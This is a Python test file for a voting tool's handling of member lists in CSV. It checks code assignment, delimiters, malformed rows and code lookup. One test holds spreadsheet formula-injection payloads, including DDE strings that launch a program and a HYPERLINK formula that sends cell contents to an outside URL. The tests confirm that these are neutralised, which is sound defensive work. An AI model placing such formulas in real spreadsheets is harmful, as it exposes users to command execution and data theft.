"""Lists of people and their codes: everything is kept, and no spreadsheet runs anything."""

import csv
import stat

import pytest

from hushvote.client import members
from hushvote.client.links import BallotLink, read_link
from hushvote.errors import FileError, HushvoteError, PollError
from hushvote.poll.codes import new_code, read_code

LINK = BallotLink("https://vote.example.org", "0" * 32, "ab" * 32)


def written(tmp_path, text, name="members.csv"):
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def joined(tmp_path, text):
    """The rows of a list with codes, as a mail merge reads them, and the list itself."""
    people, codes = members.with_codes(members.read_people(written(tmp_path, text)), LINK)
    out = tmp_path / "codes.csv"
    members.write_people(out, people)
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = [*csv.DictReader(file, delimiter=people.delimiter)]
    assert [row["code"] for row in rows] == codes
    return rows, out, people


def test_every_person_gets_a_code_and_its_link_beside_all_columns(tmp_path):
    text = 'name,"e-mail, private",note\nAnn,ann@example.org,"two\nlines"\n"Bob ""B""",b@x,\n'
    rows, out, _ = joined(tmp_path, text)
    assert [*rows[0]] == ["name", "e-mail, private", "note", "code", "link"]
    assert [row["name"] for row in rows] == ["Ann", 'Bob "B"']
    assert rows[0]["note"] == "two\nlines"
    for row in rows:
        link = read_link(row["link"])
        assert isinstance(link, BallotLink)
        assert (link.id, link.digest, link.code) == (LINK.id, LINK.digest, read_code(row["code"]))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("delimiter", "mark"), [(";", ""), ("\t", ""), (",", "\ufeff"), (";", "\ufeff")]
)
def test_delimiter_and_byte_order_mark_stay_as_they_were(tmp_path, delimiter, mark):
    text = f"{mark}name{delimiter}mail\r\nJürgen{delimiter}j@x\r\n"
    rows, out, _ = joined(tmp_path, text)
    assert rows[0]["name"] == "Jürgen"
    assert out.read_bytes().startswith("\ufeff".encode()) == bool(mark)
    assert f"name{delimiter}mail{delimiter}code{delimiter}link\r\n".encode() in out.read_bytes()


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://example.org?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        " =1+1",
        "＝1+1",
        "+A1:B2",
        "=A1",
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(tmp_path, cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    rows, _, people = joined(tmp_path, f"name,mail\n{quoted},x@y\n")
    assert rows[0]["name"] == f"'{cell}"
    assert people.defused == 1


@pytest.mark.parametrize(
    "cell",
    [
        "+49 (0)170 123-45",
        "-",
        "--",
        "- none -",
        "-12.5",
        "@ann",
        "@ann.b-c",
        "Ann = Bob",
        "O'Neil",
    ],
)
def test_what_only_looks_like_the_beginning_of_a_formula_stays(tmp_path, cell):
    rows, _, people = joined(tmp_path, f"name,mail\n{cell},x@y\n")
    assert rows[0]["name"] == cell
    assert people.defused == 0


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("name,code\nAnn,1\n", "people.columns"),
        ("name,Link\nAnn,1\n", "people.columns"),
        ("name,mail\nAnn\n", "people.form"),
        ("name,mail\nAnn,a,b\n", "people.form"),
        ("name,mail\n\n \n", "people.form"),
        ("\nAnn\n", "people.form"),
        ('name,mail\n"Ann,a\n', "people.form"),
        (b"name\nJ\xfcrgen\n", "file.encoding"),
        (b"", "file.empty"),
    ],
)
def test_a_list_that_is_none_is_refused_in_one_sentence(tmp_path, text, code):
    with pytest.raises(HushvoteError) as caught:
        joined(tmp_path, text)
    assert caught.value.code == code
    assert not (tmp_path / "codes.csv").exists()


def test_a_row_that_does_not_fit_is_named(tmp_path):
    with pytest.raises(FileError, match="row 3 must have a cell for each column, 2, not 3"):
        members.read_people(written(tmp_path, "name,mail\na,b\na,b,c\n"))


def test_older_codes_are_never_replaced(tmp_path):
    _, out, people = joined(tmp_path, "name\nAnn\n")
    before = out.read_bytes()
    with pytest.raises(FileError, match="there is such a file already"):
        members.write_people(out, people)
    assert out.read_bytes() == before


def test_codes_are_found_in_a_list_by_a_cell_that_one_row_alone_has(tmp_path):
    rows, out, _ = joined(tmp_path, "name,mail\nAnn,a@x\nAnn,b@x\nBob,c@x\n")
    assert members.codes_in(out, ["b@x"]) == [read_code(rows[1]["code"])]
    assert members.codes_in(out, ["Bob", "a@x"]) == [read_code(rows[k]["code"]) for k in (2, 0)]
    assert members.codes_in(out) == [read_code(row["code"]) for row in rows]
    for name in ("Ann", "Dee"):
        with pytest.raises(FileError) as caught:
            members.codes_in(out, [name])
        assert caught.value.code == "people.name"


def test_codes_and_links_are_read_line_by_line_and_each_once(tmp_path):
    codes = [new_code() for _ in range(3)]
    link = BallotLink(LINK.server, LINK.id, LINK.digest, read_code(codes[1]))
    path = written(tmp_path, f"{codes[0].lower()}\n\n{link}\n{codes[2]}\n{codes[0]}\n", "codes.txt")
    assert members.codes_in(path) == [read_code(code) for code in codes]
    with pytest.raises(FileError, match="no column 'code'"):
        members.codes_in(path, ["Ann"])


def test_a_wrong_code_is_named_by_its_place_and_not_repeated():
    code = new_code()
    wrong = ("0" if code[0] != "0" else "1") + code[1:]
    with pytest.raises(PollError, match="entry 2: this code has a wrong character") as caught:
        members.codes_of([code, wrong])
    assert wrong not in str(caught.value)
    with pytest.raises(PollError, match="no codes are given"):
        members.codes_of(["", " "])
    with pytest.raises(PollError, match="no code behind its digest"):
        members.codes_of([str(LINK)])


@pytest.mark.parametrize("number", [0, -1, 10**9])
def test_no_codes_and_too_many_are_refused(number):
    with pytest.raises(PollError, match="the number of codes must be from 1 to"):
        members.nobody(number)
